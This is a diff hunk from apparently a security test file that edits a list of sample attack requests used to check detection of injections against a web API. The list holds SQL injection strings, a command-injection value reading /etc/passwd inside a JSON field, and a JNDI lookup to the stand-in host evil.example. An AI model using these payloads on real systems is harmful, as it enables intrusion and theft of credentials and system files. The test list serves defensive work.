@@ -402,7 +402,7 @@ def normal_request(client, n):
 ATTACKS = [  # (method, path, body, headers): each a clear, high-confidence injection
     ("GET", "/v1/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20", None, None),
     ("GET", "/v1/products/1?id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", None, None),
-    ("POST", "/v1/orders", '{"sku":"A-1","note":"x; cat /etc/passwd"}', None),
+    ("POST", "/v1/orders", '{"sku":"A-1","note":"$(cat /etc/passwd)"}', None),
     ("GET", "/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", None, None),
 ]
 
